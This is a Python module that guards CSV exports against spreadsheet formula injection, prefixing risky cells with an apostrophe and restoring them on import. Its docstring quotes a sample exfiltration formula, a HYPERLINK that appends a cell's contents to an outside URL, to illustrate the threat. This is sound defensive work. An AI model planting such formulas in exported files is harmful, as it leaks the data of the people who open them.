"""Formula-safe CSV cells: what we write can never run as a spreadsheet formula.

Excel, LibreOffice and Google Sheets treat a cell that begins with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return as a formula (``=HYPERLINK("http://…?leak="&A1)``
sends the sheet's data away when clicked). Following OWASP's guidance on CSV injection,
every exported cell that begins with one of those characters gets a leading apostrophe,
which spreadsheets show as text and never evaluate. Plain numbers (``-3.7821``) are left
alone: a spreadsheet reads them as numbers, not formulas.

Reading reverses it exactly, so ``incident-map validate`` and a re-import see the
original text: one leading apostrophe is removed from a cell that begins with
apostrophes followed by one of those characters. A cell that already began with such an
apostrophe gets a second one on export, so every text survives a round trip:

>>> neutralise('=HYPERLINK("http://x")')
'\\'=HYPERLINK("http://x")'
>>> restore(neutralise('=1+1')), restore(neutralise("'=1+1")), neutralise("-3.78")
('=1+1', "'=1+1", '-3.78')
"""

from __future__ import annotations

import re

import pandas as pd

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
_QUOTED_FORMULA = re.compile(r"'+[=+\-@\t\r]")
_RESTORABLE = r"^'(?='*[=+\-@\t\r])"


def neutralise(value: str) -> str:
    """``value`` as a cell no spreadsheet evaluates (see the module docstring)."""
    if not value:
        return value
    if _QUOTED_FORMULA.match(value):
        return "'" + value
    if value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def restore(value: str) -> str:
    """The original text of a cell written by :func:`neutralise`."""
    if value.startswith("'") and _QUOTED_FORMULA.match(value):
        return value[1:]
    return value


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """Every text cell of ``frame`` through :func:`neutralise` (other cells unchanged)."""
    out = frame.copy()
    for column in out.columns:
        values = out[column]
        if not (pd.api.types.is_object_dtype(values) or pd.api.types.is_string_dtype(values)):
            continue
        text = values.astype(str)
        risky = values.notna() & text.str.match(r"^['=+\-@\t\r]")
        if risky.any():
            out[column] = values.astype(object)
            out.loc[risky, column] = [neutralise(v) for v in text[risky]]
    return out


def restore_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """Every cell of a text frame (as read from CSV) through :func:`restore`, in place."""
    for column in frame.columns:
        values = frame[column]
        quoted = values.str.startswith("'")
        if quoted.any():
            frame[column] = values.where(~quoted, values.str.replace(_RESTORABLE, "", regex=True))
    return frame


def csv_record(cells, newline: str = "\n") -> str:
    """One CSV record ending in ``newline``, a cell holding a line break always quoted.

    The csv module quotes a cell only for the characters of its own line terminator, so a
    file written with ``\\n`` would keep a carriage return in a cell unquoted, and a reader
    would take it for the end of the record. Written here with ``\\r\\n`` (every line break
    quoted), the terminator is then put back.

    >>> csv_record(["a\\rb", "c"]), csv_record(["x", "y"], "\\r\\n")
    ('"a\\rb",c\\n', 'x,y\\r\\n')
    """
    import csv
    import io

    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerow(cells)
    return buffer.getvalue()[:-2] + newline
